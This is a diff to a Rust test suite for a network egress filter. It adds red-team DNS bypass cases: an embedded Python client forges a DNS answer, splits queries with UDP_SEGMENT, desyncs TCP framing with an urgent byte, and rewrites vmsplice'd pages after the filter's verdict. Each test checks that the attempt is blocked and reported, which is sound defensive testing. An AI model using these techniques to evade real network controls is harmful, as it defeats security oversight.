@@ -4,6 +4,10 @@
 //! proves on the receiving side that the name never arrived (a packet capture on the
 //! server's interface and dnsmasq's query log) and that the attempt is in the events; the
 //! audit-mode twin proves the same attempt does arrive there, and is reported.
+//!
+//! The red team's DNS escapes (issue 8 follow-up) are at the end: an answer forged through
+//! the stream reset ringfence turns around, UDP_SEGMENT, urgent data, and a payload rewritten
+//! in the job's own pages (vmsplice) after the verdict.
 
 mod common;
 
@@ -22,8 +26,11 @@ const PYTHON: &str = "/usr/bin/python3";
 
 /// The job's side: python3 sockets doing what dig never would. Run as `nobody`.
 const CLIENT_PY: &str = r#"
-import socket, struct, sys, time
+import ctypes, mmap, os, socket, struct, sys, time
 case, server, bad, good = sys.argv[1:5]
+
+def qname(n):
+    return b''.join(bytes([len(l)]) + l.encode() for l in n.split('.')) + b'\0'
 
 def q(name, qid=0x1234, qd=1, body=None, extra=b''):
     h = struct.pack('>HHHHHH', qid, 0x0100, qd, 0, 0, 0)
@@ -110,6 +117,84 @@ elif case == 'tcp-keepopen':
         while len(data) < ln:
             data += s.recv(ln - len(data))
         print('answer', n, 'rcode', data[3] & 15, 'an', struct.unpack('>H', data[6:8])[0])
+elif case == 'forge':
+    # The job writes its own answer (txid T, the allowed name, A = `bad`) and sends it on its
+    # stream to the resolver with one byte more: not exactly one message, so the stream is
+    # reset by turning the segment around — which must never be read as an answer. Then it
+    # connects to the address it wrote.
+    T = 0x3131
+    s = tcp()
+    a = q(good, T)
+    s.send(framed(a))
+    ln = struct.unpack('>H', s.recv(2))[0]; d = b''
+    while len(d) < ln: d += s.recv(ln - len(d))
+    print('real answer rcode', d[3] & 15)
+    ans = struct.pack('>HHHHHH', T, 0x8180, 1, 1, 0, 0) + qname(good) + struct.pack('>HH', 1, 1)
+    ans += b'\xc0\x0c' + struct.pack('>HHIH', 1, 1, 300, 4) + socket.inet_aton(bad)
+    try:
+        s.send(framed(ans) + b'\x00'); time.sleep(0.5); s.recv(10)
+    except Exception as ex:
+        print('stream', type(ex).__name__)
+    time.sleep(0.5)
+    try:
+        c = socket.create_connection((bad, 80), timeout=3)
+        c.send(b'GET /forged HTTP/1.0\r\nHost: forged\r\n\r\n'); print('HTTP', c.recv(200))
+    except Exception as ex:
+        print('connect', ex)
+elif case == 'udp-gso':
+    # One UDP_SEGMENT send of two queries, the allowed one first: the device cuts it into
+    # two datagrams after the verdict, the second a query of its own.
+    a = q(good, 1); b = q(bad, 2)
+    assert len(b) <= len(a), (len(a), len(b))
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.setsockopt(17, 103, len(a))  # SOL_UDP, UDP_SEGMENT
+    s.connect((server, 53)); s.settimeout(1)
+    print('sent', s.send(a + b))
+    for _ in range(2):
+        try: print('reply', len(s.recv(65536)))
+        except Exception as e: print('no reply', type(e).__name__)
+elif case == 'tcp-urg':
+    # An urgent byte is in the stream the kernel walks, but the resolver's read() skips it:
+    # the kernel sees a length prefix 0x0100, the resolver the message behind it.
+    e = q(bad, 0x7777)
+    s = tcp()
+    try:
+        s.send(b'\x01', socket.MSG_OOB)
+        time.sleep(0.2)
+        s.send(b'\x00' + bytes([len(e)]) + e)
+    except Exception as ex:
+        print('stream', type(ex).__name__)
+    finish(s)
+elif case in ('vmsplice', 'vmsplice-tcp'):
+    # The payload is the job's own page (vmsplice + splice), rewritten to `bad` right after
+    # the send: what the resolver reads must be what the kernel judged.
+    assert len(bad) == len(good)
+    libc = ctypes.CDLL(None, use_errno=True)
+    class iovec(ctypes.Structure):
+        _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
+    if case == 'vmsplice':
+        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((server, 53)); at = 13
+    else:
+        s = tcp(); at = 15
+    label = bad.split('.')[0].encode()
+    for i in range(10):
+        m = mmap.mmap(-1, 4096)
+        msg = q(good, 0x4000 + i)
+        if case != 'vmsplice':
+            msg = framed(msg)
+        m[:len(msg)] = msg
+        buf = ctypes.c_char.from_buffer(m)
+        iov = iovec(ctypes.addressof(buf), len(msg))
+        r, w = os.pipe()
+        assert libc.vmsplice(w, ctypes.byref(iov), 1, 0) == len(msg), ctypes.get_errno()
+        os.splice(r, s.fileno(), len(msg))
+        m[at:at + len(label)] = label
+        os.close(r); os.close(w)
+        time.sleep(0.05)
+        del buf
+    print('sent', i + 1)
+    if case != 'vmsplice':
+        time.sleep(0.5); finish(s)
 else:
     sys.exit('unknown case ' + case)
 "#;
@@ -739,4 +824,138 @@ fn several_tcp_queries_on_one_connection_are_answered_and_bound() {
         "{}",
         job.dump()
     );
+}
+
+/// The red team's setup (issue 8 follow-up): `allowed.test:80` allowed, the job as nobody in
+/// block mode runs `case` against `server`; `bad` must neither reach the resolver's log nor
+/// cross the wire (the capture counts frames holding its first label).
+fn redteam_case(case: &str, server: &str, bad: &str, extra: &[&str]) -> (Testbed, Job) {
+    let tb = testbed(&[DnsRecord::a("allowed.test", link_v4(20))], &[]);
+    let marker = bad.split('.').next().unwrap();
+    let cap = Capture::start(&tb, marker);
+    let script = client_script(&tb);
+    let cmd = as_nobody(&[PYTHON, &script, case, server, bad, "allowed.test"]);
+    let mut opts = vec!["--mode", "block", "--allow", "allowed.test:80"];
+    opts.extend_from_slice(extra);
+    let job = exec(&tb, &opts, &as_strs(&cmd));
+    assert_eq!(
+        cap.hits(),
+        0,
+        "{case}: {bad} crossed the wire\n{}",
+        job.dump()
+    );
+    assert_eq!(
+        tb.dns_queries_for(bad),
+        0,
+        "{case}: the resolver logged {bad}\n{}\n{}",
+        tb.dns_log(),
+        job.dump()
+    );
+    drop(cap);
+    (tb, job)
+}
+
+/// The job forges an answer for its own outstanding query and has the kernel reset the
+/// stream: the reset turned around to the client must never be read as an answer. Proof on
+/// the far side: the HTTP server on the address the job wrote counts no request.
+fn forged_answer(server: &str, extra: &[&str], stub: bool) {
+    let evil = ringfence::testbed::routed_v4(21);
+    // ok.test: what start_stub asks to know the stub is up.
+    let tb = testbed(
+        &[
+            DnsRecord::a("allowed.test", link_v4(20)),
+            DnsRecord::a("ok.test", link_v4(21)),
+        ],
+        &[sa(evil, 80)],
+    );
+    let _stub = stub.then(|| start_stub(&tb));
+    let script = client_script(&tb);
+    let ev = evil.to_string();
+    let cmd = as_nobody(&[PYTHON, &script, "forge", server, &ev, "allowed.test"]);
+    let mut opts = vec!["--mode", "block", "--allow", "allowed.test:80"];
+    opts.extend_from_slice(extra);
+    let job = exec(&tb, &opts, &as_strs(&cmd));
+    assert!(
+        job.stdout.contains("real answer rcode 0"),
+        "the allowed query was not answered\n{}",
+        job.dump()
+    );
+    assert_eq!(
+        tb.http_hits(sa(evil, 80)),
+        0,
+        "the job reached {evil}:80 through an answer it forged\n{}",
+        job.dump()
+    );
+    job.expect_flow(evil.into(), 80, "blocked", "direct-ip");
+    assert!(
+        dns_findings(&job, "dns-unjudged")
+            .iter()
+            .any(|e| e["verdict"] == "blocked"),
+        "the forged message is not reported\n{}",
+        job.dump()
+    );
+}
+
+#[test]
+fn forged_answer_via_tcp_reset_turnaround() {
+    forged_answer("198.51.100.53", &[], false);
+}
+
+#[test]
+fn forged_answer_via_loopback_stub() {
+    forged_answer("127.0.0.54", &["--dns-resolver", "127.0.0.54"], true);
+}
+
+/// UDP_SEGMENT: one send, cut into datagrams by the device after the verdict. It cannot be
+/// judged as one message: dropped and reported.
+#[test]
+fn udp_gso_query_is_unjudged() {
+    let (_tb, job) = redteam_case("udp-gso", "198.51.100.53", "gsoleak.test", &[]);
+    assert!(
+        dns_findings(&job, "dns-unjudged")
+            .iter()
+            .any(|e| e["verdict"] == "blocked"),
+        "no blocked dns-unjudged event\n{}",
+        job.dump()
+    );
+}
+
+/// MSG_OOB: the kernel's walk and the resolver's read() frame the stream differently.
+#[test]
+fn tcp_urgent_byte_kills_the_stream() {
+    let (_tb, job) = redteam_case("tcp-urg", "198.51.100.53", "urgleak.test", &[]);
+    assert!(
+        dns_findings(&job, "dns-unjudged")
+            .iter()
+            .any(|e| e["verdict"] == "blocked"),
+        "no blocked dns-unjudged event\n{}",
+        job.dump()
+    );
+}
+
+/// vmsplice + splice: the packet's pages are the job's, rewritten after the verdict. The
+/// resolver must read what was judged: the allowed name, never the rewritten one.
+fn vmsplice_rewrite(case: &str) {
+    let (tb, job) = redteam_case(case, "198.51.100.53", "vmsplce.test", &[]);
+    assert!(job.stdout.contains("sent 10"), "{case}\n{}", job.dump());
+    assert!(
+        tb.dns_queries_for("allowed.test") > 0,
+        "{case}: the resolver saw no query at all\n{}",
+        job.dump()
+    );
+    assert!(
+        !job.events.iter().any(|e| e["reason"] == "dns-unjudged"),
+        "{case}: a legitimate query was not judged\n{}",
+        job.dump()
+    );
+}
+
+#[test]
+fn vmsplice_udp_rewrite_after_the_verdict() {
+    vmsplice_rewrite("vmsplice");
+}
+
+#[test]
+fn vmsplice_tcp_rewrite_after_the_verdict() {
+    vmsplice_rewrite("vmsplice-tcp");
 }
